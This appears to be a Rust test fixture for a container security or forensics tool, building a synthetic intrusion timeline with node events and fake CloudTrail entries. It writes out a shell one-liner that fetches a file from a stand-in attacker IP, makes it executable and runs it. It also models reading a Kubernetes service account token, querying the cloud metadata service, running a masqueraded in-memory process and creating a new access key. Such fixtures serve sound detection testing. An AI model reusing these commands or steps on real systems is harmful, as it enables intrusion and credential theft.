//! What the node and the cloud's log said. Times are seconds after 18:10:00.

use std::net::IpAddr;

use serde_json::{Value, json};

use crate::completeness::{Line, Statement, Subject};
use crate::model::event::{ContainerSeen, Entry, Exec, Flow, Raw, Trigger};
use crate::model::{Actor, AuditEntry, AuditSource, Body, EvidenceRef, Moment, NodeEvent, Origin, ProcessKey};

pub(crate) const NODE: &str = "node-1";
pub(crate) const LOG: &str = "5f0c1d2e";
pub(crate) const CONTAINER: &str = "9c1f8a4be2d07735c6a1e4f80b923d5176ee0c48d9ab21f3570e6c8b4d92a1f0";
pub(crate) const SESSION: &str = "arn:aws:sts::123456789012:assumed-role/shop-frontend/i-0a1b2c3d4e5f60718";
pub(crate) const KEY: &str = "AKIAIOSFODNN7EXAMPLE";
pub(crate) const SESSION_KEY: &str = "ASIAIOSFODNN7EXAMPLE";
pub(crate) const USER: &str = "arn:aws:iam::123456789012:user/backup-operator";
pub(crate) const ATTACKER: &str = "198.51.100.23";
pub(crate) const OBJECT: &str = "c2a5b94d71e6f30892cb4b7a51ff6a7d9c3e10485b2f6d7788a09c1d2e3f4a5b";
const BASE_MS: u64 = 1_795_284_600_000;

/// Seconds (with milliseconds) after 18:10:00 on 21 November 2026, by the node's clock.
pub(crate) fn at(seconds: u64, milliseconds: u64) -> Moment {
    Moment { ns: (BASE_MS + seconds * 1_000 + milliseconds) * 1_000_000, uncertainty_us: 40 }
}

pub(crate) fn process(pid: u32) -> ProcessKey {
    ProcessKey {
        node: NODE.to_owned(),
        boot_id: "1b6f2f6e-7d3a-4c1e-9f52-8d2f0f0c7a11".to_owned(),
        pid,
        start_ns: u64::from(pid) * 1_000_000,
    }
}

pub(crate) fn event(position: u64) -> EvidenceRef {
    EvidenceRef::Event { node: NODE.to_owned(), log_id: LOG.to_owned(), position }
}

fn seen(position: u64, time: Moment, who: Option<(u32, u32, &str)>, body: Body) -> NodeEvent {
    let actor = who.map(|(pid, parent, executable)| Actor {
        process: process(pid),
        parent: Some(process(parent)),
        executable: Raw(executable.as_bytes().to_vec()),
        uid: 1000,
        origin: Origin::Container { id: CONTAINER.to_owned() },
        entry: Entry::InitTree,
        entered: None,
        in_host_mounts: false,
    });
    NodeEvent { node: NODE.to_owned(), log_id: LOG.to_owned(), position, time, actor, attempt: false, body }
}

fn raw(text: &str) -> Raw {
    Raw(text.as_bytes().to_vec())
}

fn exec(path: &str, arguments: &[&str], upper_layer: bool, memfd: bool) -> Body {
    Body::Exec(Box::new(Exec {
        path: raw(path),
        arguments: arguments.iter().map(|argument| raw(argument)).collect(),
        directory: raw("/srv/shop"),
        upper_layer,
        memfd,
        uid: 1000,
        effective_uid: 1000,
        stopped_in_kernel: memfd,
        ..Exec::default()
    }))
}

fn flow(remote: &str, remote_port: u16) -> Flow {
    let address = |text: &str| text.parse::<IpAddr>().expect("a literal address");
    Flow { local: address("10.42.0.17"), local_port: 41_234, remote: address(remote), remote_port }
}

pub(crate) fn events() -> Vec<NodeEvent> {
    let mut events = before();
    events.extend(after());
    events
}

fn before() -> Vec<NodeEvent> {
    let container = ContainerSeen {
        container_id: CONTAINER.to_owned(),
        runtime: "containerd".to_owned(),
        cgroup_id: 8_811,
        pod_uid: "6e2b6f8a-55c1-4c2b-9d0e-1f4f1c0a7b33".to_owned(),
        pod_name: "frontend-7d9c5b8f6-x2x9k".to_owned(),
        pod_namespace: "shop".to_owned(),
        image: "registry.shop.example/frontend@sha256:41d8cd98f00b204e".to_owned(),
        image_digest: String::new(),
        name: "frontend".to_owned(),
        service_account: "frontend".to_owned(),
    };
    let shell = ["sh", "-c", "curl -so /tmp/.x http://198.51.100.23/x; chmod +x /tmp/.x; /tmp/.x"];
    vec![
        seen(4_690, at(2, 0), None, Body::ContainerSeen(Box::new(container))),
        seen(
            4_701,
            at(21, 118),
            Some((4_100, 4_080, "/usr/bin/python3")),
            Body::Accept { flow: flow(ATTACKER, 51_022) },
        ),
        seen(4_702, at(21, 130), Some((4_211, 4_100, "/bin/sh")), exec("/bin/sh", &shell, false, false)),
        seen(
            4_704,
            at(21, 192),
            Some((4_212, 4_211, "/usr/bin/curl")),
            exec("/usr/bin/curl", &["curl", "-so", "/tmp/.x", "http://198.51.100.23/x"], false, false),
        ),
        seen(
            4_705,
            at(21, 214),
            Some((4_212, 4_211, "/usr/bin/curl")),
            Body::Connect { flow: flow(ATTACKER, 80), established: true, metadata_service: false, api_server: false },
        ),
        seen(
            4_708,
            at(21, 530),
            Some((4_213, 4_211, "/bin/chmod")),
            Body::FileChmod { path: raw("/tmp/.x"), mode: 0o755, result: 0, truncated: false, object: None },
        ),
        seen(4_710, at(21, 560), Some((4_214, 4_211, "/tmp/.x")), exec("/tmp/.x", &["/tmp/.x"], true, false)),
    ]
}

fn token_read() -> Body {
    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    Body::FileOpen {
        path: raw(token),
        flags: 0,
        mode: 0,
        sensitive: "service_account_token".to_owned(),
        result: 0,
        truncated: false,
        object: None,
        created: false,
        by_handle: false,
        alias: Raw::default(),
        repeats: None,
    }
}

fn after() -> Vec<NodeEvent> {
    let trigger = Trigger {
        rule_id: "7a0d2f7e-0000-4000-8000-000000000003".to_owned(),
        rule_title: "Program runs from memory".to_owned(),
        level: "high".to_owned(),
        event_position: 4_715,
        action: "stopped_in_kernel".to_owned(),
        capture_id: "cap-4715".to_owned(),
        stop_latency_ns: 41_000,
        techniques: vec!["T1620".to_owned()],
    };
    vec![
        seen(4_712, at(21, 611), Some((4_214, 4_211, "/tmp/.x")), token_read()),
        seen(
            4_713,
            at(21, 640),
            Some((4_214, 4_211, "/tmp/.x")),
            Body::Connect {
                flow: flow("169.254.169.254", 80),
                established: true,
                metadata_service: true,
                api_server: false,
            },
        ),
        seen(
            4_715,
            at(21, 702),
            Some((4_215, 4_214, "/memfd:worker")),
            exec("/memfd:worker", &["[kworker/1:2]"], false, true),
        ),
        seen(4_716, at(21, 702), Some((4_215, 4_214, "/memfd:worker")), Body::Trigger(Box::new(trigger))),
        seen(
            4_718,
            at(21, 760),
            Some((4_216, 4_214, "/bin/rm")),
            Body::FileUnlink { path: raw("/tmp/.x"), result: 0, truncated: false, object: None },
        ),
        seen(
            4_719,
            at(21, 764),
            None,
            Body::CaptureSealed {
                capture_id: "cap-4715".to_owned(),
                manifest_sha256: "8b".repeat(32),
                artifacts: 4,
                failed: 1,
                latency_ns: 62_000_000,
            },
        ),
    ]
}

fn entry(id: &str, time: Moment, action: &str, denied: bool, more: &Value) -> AuditEntry {
    let mut original =
        json!({ "eventName": action, "eventID": id, "awsRegion": "eu-central-1", "sourceIPAddress": "203.0.113.77" });
    if let (Value::Object(fields), Value::Object(more)) = (&mut original, more) {
        fields.extend(more.clone());
    }
    AuditEntry {
        source: AuditSource::Cloudtrail,
        id: id.to_owned(),
        time,
        action: action.to_owned(),
        source_address: "203.0.113.77".parse().ok(),
        denied,
        original,
        object_sha256: OBJECT.to_owned(),
    }
}

pub(crate) fn audit(id: &str) -> EvidenceRef {
    EvidenceRef::Audit { source: AuditSource::Cloudtrail, id: id.to_owned(), object_sha256: OBJECT.to_owned() }
}

pub(crate) fn entries() -> Vec<AuditEntry> {
    let second = |seconds: u64| Moment::of_second(BASE_MS / 1_000 + seconds);
    let session = json!({ "userIdentity": { "type": "AssumedRole", "arn": SESSION, "accessKeyId": SESSION_KEY } });
    let user = json!({ "userIdentity": { "type": "IAMUser", "arn": USER, "accessKeyId": KEY } });
    vec![
        entry("8a1f0001", second(58), "GetCallerIdentity", false, &session),
        entry("8a1f0002", second(61), "ListBuckets", false, &session),
        entry("8a1f0003", second(74), "CreateAccessKey", false, &session),
        entry("8a1f0004", second(95), "ListSecrets", true, &user),
    ]
}

/// What became of everything that was seen of the container.
pub(crate) fn statement() -> Statement {
    let line = |class: &str, seen: u64, told: u64| Line {
        class: class.to_owned(),
        seen,
        emitted: told,
        told,
        received: told,
        ..Line::default()
    };
    Statement {
        subject: Subject::Container { id: CONTAINER.to_owned() },
        from: at(0, 0),
        to: at(960, 0),
        accounted: Some((at(2, 0), at(959, 0))),
        lines: vec![Line { throttled: 1_204, ..line("file", 1_316, 112) }, line("process", 41, 41)],
        missing: 0,
        watches: Vec::new(),
        holds: true,
        evidence: vec![event(4_790)],
    }
}
